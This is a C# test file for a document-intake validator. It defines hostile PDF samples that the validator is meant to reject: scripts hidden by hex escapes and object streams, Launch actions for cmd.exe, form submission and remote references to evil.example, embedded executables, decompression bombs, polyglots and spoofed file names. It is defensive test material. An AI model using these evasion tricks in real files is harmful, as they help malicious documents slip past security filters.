using static Governance.Tests.Records.Intake.MadePdf;

namespace Governance.Tests.Records.Intake;

internal static class HostilePdfs
{
    private const string Script = "/S /JavaScript /JS (app.alert\\(1\\))";

    public static IReadOnlyList<HostileFile> All { get; } =
    [
        Pdf("opens with a script", "DOC-010", () => Of(catalog: $"/OpenAction << {Script} >>")),
        Pdf("script hidden by hex escapes", "DOC-010", () => Of(catalog: "/OpenAction << /S /J#61v#61Script /JS (x) >>")),
        Pdf("every letter of the script's name escaped", "DOC-010", () => Of(catalog: "/OpenAction << /S /#4a#61#76#61#53#63#72#69#70#74 /JS (x) >>")),
        Pdf("script in the names of the document", "DOC-010", () => Of(catalog: "/Names << /JavaScript << /Names [(a) 6 0 R] >> >>", more: Text($"<< {Script} >>"))),
        Pdf("script when a page closes", "DOC-010", () => Of(catalog: $"/AA << /WC << {Script} >> >>")),
        Pdf("script packed into an object stream", "DOC-010", () => Of(catalog: "/OpenAction 9 0 R", more: Packed($"<< {Script} >>"))),
        Pdf("escaped script in an object stream", "DOC-010", () => Of(catalog: "/OpenAction 9 0 R", more: Packed("<< /S /Java#53cript /JS (x) >>"))),
        Pdf("script in an object stream without a type", "DOC-010", () => Of(catalog: "/OpenAction 9 0 R", more: Stream("/N 1 /First 4 /Filter /FlateDecode", MadePictures.Packed(Text($"9 0 << {Script} >>"))))),
        Pdf("object stream whose type is escaped", "DOC-010", () => Of(more: Stream("/Type /Obj#53tm /Filter /Fl#61teDecode", MadePictures.Packed(Text($"9 0 << {Script} >>"))))),
        Pdf("object stream packed twice", "DOC-014", () => Of(more: Packed($"<< {Script} >>", "/Filter [/FlateDecode /FlateDecode]", 2))),
        Pdf("object stream packed in an unusual way", "DOC-014", () => Of(more: Packed($"<< {Script} >>", "/Filter /LZWDecode", 1))),
        Pdf("object stream whose packing is told elsewhere", "DOC-014", () => Of(more: Packed($"<< {Script} >>", "/Filter 7 0 R"))),
        Pdf("object stream with a predictor", "DOC-014", () => Of(more: Packed($"<< {Script} >>", "/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 1 >>"))),
        Pdf("script behind an open parenthesis", "DOC-010", () => Of(more: Text($"( never closed\nendobj\n8 0 obj << {Script} >>"))),
        Pdf("script in a comment that an offset may point into", "DOC-010", () => Of(more: Text($"<< >> % << {Script} >>"))),
        Pdf("script in the data of another stream", "DOC-010", () => Of(more: Stream("", Text($"8 0 obj << {Script} >> endobj")))),
        Pdf("starts a program", "DOC-010", () => Of(catalog: "/OpenAction << /S /Launch /F (cmd.exe) >>")),
        Pdf("starts a program, escaped", "DOC-010", () => Of(catalog: "/OpenAction << /S /L#61unch /F (cmd.exe) >>")),
        Pdf("a form in XML", "DOC-010", () => Of(catalog: "/AcroForm << /XFA [(a) 6 0 R] /Fields [] >>", more: Stream("", Text("<xdp/>")))),
        Pdf("a form in XML after a comment", "DOC-010", () => Of(catalog: "/AcroForm << /XFA % here\n 6 0 R /Fields [] >>", more: Stream("", Text("<xdp/>")))),
        Pdf("sends what is filled in", "DOC-010", () => Of(catalog: "/OpenAction << /S /SubmitForm /F (http://evil.example/) >>")),
        Pdf("reads data from a file", "DOC-010", () => Of(catalog: "/OpenAction << /S /ImportData /F (x.fdf) >>")),
        Pdf("flash and film", "DOC-010", () => Of(more: Text("<< /Type /Annot /Subtype /RichMedia >>"))),
        Pdf("plays a sound", "DOC-010", () => Of(catalog: "/OpenAction << /S /Sound /Sound 6 0 R >>", more: Stream("/R 8000", [0]))),
        Pdf("plays a film", "DOC-010", () => Of(more: Text("<< /Type /Annot /Subtype /Movie /Movie << >> >>"))),
        Pdf("a rendition", "DOC-010", () => Of(catalog: "/OpenAction << /S /Rendition /OP 0 >>")),
        Pdf("a file inside", "DOC-011", () => Of(catalog: "/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>", more: [Text("<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>"), Stream("/Type /EmbeddedFile", "MZ"u8.ToArray())])),
        Pdf("a file inside without its type", "DOC-011", () => Of(more: [Text("<< /F (a.exe) /EF << /F 7 0 R >> >>"), Stream("", "MZ"u8.ToArray())])),
        Pdf("a file inside, escaped", "DOC-011", () => Of(more: [Text("<< /F (a.exe) /#45F<</F 7 0 R>> >>"), Stream("", "MZ"u8.ToArray())])),
        Pdf("a file pinned to a page", "DOC-011", () => Of(more: Text("<< /Type /Annot /Subtype /FileAttachment /FS 7 0 R >>"))),
        Pdf("opens a PDF from a server", "DOC-012", () => Of(catalog: "/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\a.pdf) /D [0 /Fit] >>")),
        Pdf("opens a PDF inside of it", "DOC-012", () => Of(catalog: "/OpenAction << /S /GoToE /D [0 /Fit] >>")),
        Pdf("data that lie in another file", "DOC-012", () => Of(more: Stream("/F (http://evil.example/x)", []))),
        Pdf("locked with a password", "DOC-009", () => Of(trailer: "/Encrypt << /Filter /Standard /V 1 /R 2 /O (12345678901234567890123456789012) /U (12345678901234567890123456789012) /P -4 >> /ID [<01> <01>]")),
        Pdf("one stream of it encrypted", "DOC-009", () => Of(more: Stream("/Filter /Crypt", [1, 2, 3]))),
        Pdf("a page that bursts", "DOC-013", () => Of(filter: "/Filter /FlateDecode", content: MadePictures.Packed(new byte[70 << 20]))),
        Pdf("a page that bursts, in letters", "DOC-013", () => Of(filter: "/Filter [/ASCIIHexDecode /FlateDecode]", content: Text(Convert.ToHexString(MadePictures.Packed(new byte[70 << 20])) + ">"))),
        Pdf("a page packed twice", "DOC-013", () => Of(filter: "/Filter [/FlateDecode /FlateDecode]", content: MadePictures.Packed(MadePictures.Packed(new byte[1 << 20])))),
        Pdf("a page that bursts, run by run", "DOC-013", () => Of(filter: "/Filter /RunLengthDecode", content: [.. Enumerable.Repeat(new byte[] { 129, 65 }, 600_000).SelectMany(b => b)])),
        Pdf("an object stream that bursts", "DOC-013", () => Of(more: Packed(new string(' ', 70 << 20)))),
        Pdf("a zip after its end", "DOC-015", () => [.. Of(), .. new RawZip().Add("a.txt", "hej").Bytes()]),
        Pdf("a zip in a stream at its end", "DOC-015", () => Of(more: Stream("", new RawZip().Add("a.class", "hej").Bytes()))),
        Pdf("a page of HTML after its end", "DOC-015", () => [.. Of(), .. "<html><script>alert(1)</script></html>"u8]),
        Pdf("HTML in its first comment", "DOC-015", () => Of(start: "%PDF-1.7\n%<html><body onload=alert(1)>\n")),
        Pdf("something before it begins", "DOC-015", () => [.. "hej\n"u8, .. Of()]),
        Pdf("a picture before it begins", "DOC-004", () => [.. "GIF87a\n"u8, .. Of()]),
        Pdf("a tape archive around it", "DOC-015", () => Of(start: "%PDF-1.7\n%" + new string('x', 247) + "ustar\0\n")),
        Pdf("an archive of another kind in it", "DOC-015", () => Of(more: Stream("", [.. "Rar!"u8, 0x1A, 0x07, 0x00, 1, 2, 3]))),
        Pdf("no end", "DOC-008", () => Of(end: "")),
        Pdf("no version", "DOC-008", () => Of(start: "%PDF-\n\n")),
        Pdf("no pages", "DOC-008", () => Text("%PDF-1.4\n1 0 obj\n<< >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")),
        Pdf("only its first and last line", "DOC-008", () => Text("%PDF-1.4\n%%EOF\n")),
        Pdf("a stream whose dictionary is garbage", "DOC-008", () => Of(more: Text("8 0 R ) >>\nstream\nx\nendstream"))),
        Pdf("arrays a hundred thousand deep", "DOC-008", () => Of(catalog: "/X " + new string('[', 100_000), start: "%PDF-1.7\n")),
        new("called an image", "bild.png", () => Of(), "DOC-006"),
        new("called a program", "protokoll.pdf.exe", () => Of(), "DOC-004"),
        new("its extension turned around", "protokoll\u202Efdp.exe", () => Of(), "DOC-004"),
        new("a program's name before its extension", "protokoll.exe.pdf", () => Of(), "DOC-007"),
        new("a name of nothing", "../..", () => Of(), "DOC-007"),
        new("only an extension", ".pdf", () => Of(), "DOC-007"),
    ];

    private static HostileFile Pdf(string why, string code, Func<byte[]> make) => new(why, "protokoll.pdf", make, code);
}
